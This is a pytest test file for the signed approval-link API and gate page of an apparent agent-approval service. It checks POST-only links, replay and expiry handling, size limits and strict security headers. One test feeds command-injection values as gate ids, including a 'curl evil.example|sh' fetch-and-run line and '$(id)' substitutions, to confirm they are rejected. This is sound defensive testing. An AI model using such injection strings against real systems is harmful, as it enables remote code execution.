"""Routes of signed links and their page (api/routes/links.py, gate_page.py); tests/gates has what links decide."""

from __future__ import annotations

import base64
import hashlib
import re
from typing import Any

import pytest
from fastapi.testclient import TestClient

from entracte.api.app import create_app
from entracte.core.identity.identity import Identity
from entracte.errors import Forbidden
from tests.api.conformance import Conformance
from tests.gates.linked import Linked, token_of
from tests.gates.scene import SEND, Scene
from tests.gates.shop import policy

OPS, SEC = "ops@shop.example", "sec@shop.example"


def nobody(request: object) -> Identity:
    """Nobody has signed in."""
    raise Forbidden("Sign in.")


def linked_scene(rule: str = "") -> Linked:
    """A run whose mail two people may let go out, with links by mail."""
    return Linked(Scene(SEND, rules=policy(send=f"class: irreversible, approvers: [{OPS}, {SEC}]{rule}")), OPS, SEC)


@pytest.fixture
def linked() -> Linked:
    """A run whose mail two people may let go out."""
    return linked_scene()


def api_of(linked: Linked, conformance: Conformance) -> TestClient:
    """The API for somebody who has not signed in."""
    client = TestClient(create_app(linked.process, identify=nobody), follow_redirects=False)
    client.event_hooks = {"response": [conformance.check]}
    return client


@pytest.fixture
def api(linked: Linked, conformance: Conformance) -> TestClient:
    """The API for somebody who has not signed in."""
    return api_of(linked, conformance)


def post(api: TestClient, what: str, token: str, **more: str) -> Any:
    """The response of a route of links."""
    return api.post(f"/v1/links/{what}", json={"token": token, **more})


def problem(response: Any) -> tuple[int, str]:
    """Status and code."""
    return response.status_code, response.json()["type"].removeprefix("urn:entracte:")


def test_the_holder_of_a_link_sees_the_gate_and_decides_it(api: TestClient, linked: Linked):
    """Without having signed in; what they see is what its page needs, and no arguments but those of the preview."""
    gate, token = linked.scene.gate, linked.token(OPS)
    shown = post(api, "preview", token, gate=gate.id).json()
    assert shown == {
        "gate": gate.id,
        "kind": "approval",
        "status": "waiting",
        "question": gate.question,
        "why": gate.why,
        "asked_by": gate.asked_by,
        "agent": "desk",
        "tool": "send",
        "preview": list(gate.preview),
        "decisions": ["approve", "deny"],
        "decided": "",
        "approver": OPS,
        "until": "2026-01-08T09:00:00+00:00",
        "sign_in": False,
        "command": f"entracte approve {gate.id}",
    }
    decided = post(api, "decision", token, gate=gate.id, decision="approve", reason="Fine.").json()
    assert decided == shown | {"status": "approved", "decided": f"It was approved by {OPS} at 2026-01-01 09:00 UTC"}
    linked.scene.settle()
    assert linked.scene.shop.done == [("send", "ada")]
    assert post(api, "preview", token).json() == decided


def test_fetching_the_page_decides_nothing(api: TestClient, linked: Linked):
    """Mail programs do, with every link; the token is in the fragment, which is not even sent."""
    link = linked.signing.link_for(linked.scene.gate, OPS)
    path = link.partition("#")[0].removeprefix("https://desk.example")
    pages = [api.request(method, path) for method in ("GET", "HEAD", "GET")]
    for token_in_query in (f"{path}?t={token_of(link)}", f"{path}?decision=approve&token={token_of(link)}"):
        assert api.get(token_in_query).text == pages[0].text
    assert [page.status_code for page in pages] == [200, 405, 200]
    linked.scene.settle()
    assert (linked.scene.gate.votes, linked.scene.shop.done) == ((), [])


@pytest.mark.parametrize("method", ["GET", "PUT", "DELETE"])
@pytest.mark.parametrize("what", ["preview", "decision", "renew"])
def test_links_are_posted_and_never_fetched(api: TestClient, linked: Linked, method: str, what: str):
    """An address may be followed, logged or stored by anybody on its way."""
    response = api.request(method, f"/v1/links/{what}?token={linked.token(OPS)}&decision=approve")
    assert (response.status_code, response.headers["allow"], linked.scene.gate.votes) == (405, "POST", ())


def test_a_page_of_another_site_cannot_post_a_link(api: TestClient, linked: Linked):
    """Forms send no JSON."""
    body = f'{{"token": "{linked.token(OPS)}", "decision": "approve"}}'
    response = api.post("/v1/links/decision", content=body, headers={"content-type": "text/plain"})
    assert (response.status_code, linked.scene.gate.votes) == (415, ())


@pytest.mark.parametrize("what", ["preview", "decision", "renew"])
def test_whoever_proves_nothing_has_little_read(api: TestClient, what: str):
    """A megabyte of small numbers takes half a second to read."""
    answer = api.post(f"/v1/links/{what}", json={"token": "t", "decision": [1] * 40_000})
    assert problem(answer) == (413, "too_large")


def test_the_longest_link_and_answer_are_read(api: TestClient, linked: Linked):
    """However they are escaped."""
    body = {"token": "\u00e9" * 4000, "gate": "\u00e9" * 500, "decision": "\u00e9" * 4000, "reason": "\u00e9" * 2000}
    assert problem(api.post("/v1/links/decision", json=body)) == (403, "link_invalid")


def test_the_page_is_the_same_for_every_gate(api: TestClient, linked: Linked):
    """It says nothing of whether there is one."""
    assert api.get(f"/gates/{linked.scene.gate.id}").text == api.get("/gates/nope").text


@pytest.mark.parametrize("id", ["x;curl evil.example|sh", "x%20--url%20evil.example", "$(id)", "x`id`", "x%0Aid"])
def test_no_page_shows_a_command_that_somebody_put_into_its_address(api: TestClient, id: str):
    """People paste what a page of their own deployment tells them to."""
    assert api.get(f"/gates/{id}").status_code == 404


def test_the_page_runs_its_own_script_and_nothing_else(api: TestClient):
    """No code or style of others, no frame around it, no address told to anybody, no copy kept."""
    page = api.get("/gates/g")

    def source(tag: str) -> str:
        (text,) = re.findall(rf"<{tag}>(.*?)</{tag}>", page.text, re.DOTALL)
        return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"

    assert page.headers["content-security-policy"] == (
        f"default-src 'none'; script-src {source('script')}; style-src {source('style')}; connect-src 'self'; "
        "img-src data:; form-action 'none'; frame-ancestors 'none'; base-uri 'none'"
    )
    headers = ("referrer-policy", "cache-control", "x-frame-options", "x-robots-tag", "cross-origin-opener-policy")
    assert [page.headers[name] for name in headers] == [
        "no-referrer",
        "no-store",
        "DENY",
        "noindex, nofollow",
        "same-origin",
    ]


def test_the_page_writes_text_only(api: TestClient):
    """What an agent made up must not become part of the page; no handler stands in an attribute."""
    page = api.get("/gates/g").text
    assert re.findall(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|\son\w+=|\sstyle=", page) == []
    assert re.findall(r'(?:src|href)="(?!data:,")', page) == []


def test_what_cannot_be_used_says_why(api: TestClient, linked: Linked):
    """And whether a new link would help."""
    scene, token = linked.scene, linked.token(OPS)
    assert problem(post(api, "preview", token[:-3])) == (403, "link_invalid")
    assert problem(post(api, "preview", token, gate="another")) == (403, "link_invalid")
    assert problem(post(api, "decision", token, decision="aprove")) == (422, "unknown_decision")
    assert problem(post(api, "decision", linked.token(OPS, approver="eve"), decision="deny")) == (404, "gate_not_found")
    scene.world.clock.advance(days=7)
    assert problem(post(api, "preview", token)) == problem(post(api, "decision", token, decision="deny"))
    assert problem(post(api, "preview", token)) == (409, "link_expired")
    assert scene.gate.votes == ()


def test_a_replay_is_told_who_decided_what(api: TestClient, linked: Linked):
    """Whoever found the link in a mailbox."""
    token = linked.token(OPS)
    assert post(api, "decision", token, decision="deny").status_code == 200
    replayed = post(api, "decision", token, decision="approve")
    assert problem(replayed) == (409, "gate_already_decided")
    assert f"denied by {OPS}" in replayed.json()["detail"]


def test_a_gate_that_asks_who_decides_is_shown_and_not_decided(conformance: Conformance):
    """The page says so before anybody tries."""
    linked = linked_scene(", four_eyes: true")
    api, token = api_of(linked, conformance), linked.token(OPS)
    assert post(api, "preview", token).json()["sign_in"] is True
    assert problem(post(api, "decision", token, decision="approve")) == (401, "sign_in_needed")


def test_a_gate_that_asks_who_decides_is_decided_by_link_and_token(conformance: Conformance):
    """The token has to be that of the person whom the link is for."""
    linked = linked_scene(", four_eyes: true")
    api = api_of(linked, conformance)
    api.app.state.identify = lambda request: Identity(request.headers["authorization"].removeprefix("Bearer "))
    token = linked.token(OPS)
    api.headers["Authorization"] = f"Bearer {SEC}"
    assert problem(post(api, "decision", token, decision="approve")) == (403, "link_of_another")
    api.headers["Authorization"] = f"Bearer {OPS}"
    decided = post(api, "decision", token, decision="approve")
    assert decided.json()["decided"].startswith(f"It was approved by {OPS}")


def test_a_new_link_is_sent_to_whom_the_old_one_was_for(api: TestClient, linked: Linked):
    """The answer is the same whether one was sent or not."""
    old = linked.token(OPS)
    linked.scene.world.clock.advance(days=8)
    first, second = post(api, "renew", old), post(api, "renew", old)
    assert (first.status_code, first.json()) == (second.status_code, second.json()) == (202, {"status": "accepted"})
    (notice,) = linked.mail.notices
    assert post(api, "decision", token_of(notice.link), decision="deny").json()["status"] == "denied"


def test_links_that_are_off_say_what_is_missing(conformance: Conformance, linked: Linked):
    """To the operator who tries the first one."""
    off = api_of(Linked(linked.scene, key=""), conformance)
    response = post(off, "preview", linked.token(OPS))
    assert (problem(response), "ENTRACTE_LINK_KEY" in response.json()["detail"]) == ((404, "links_off"), True)
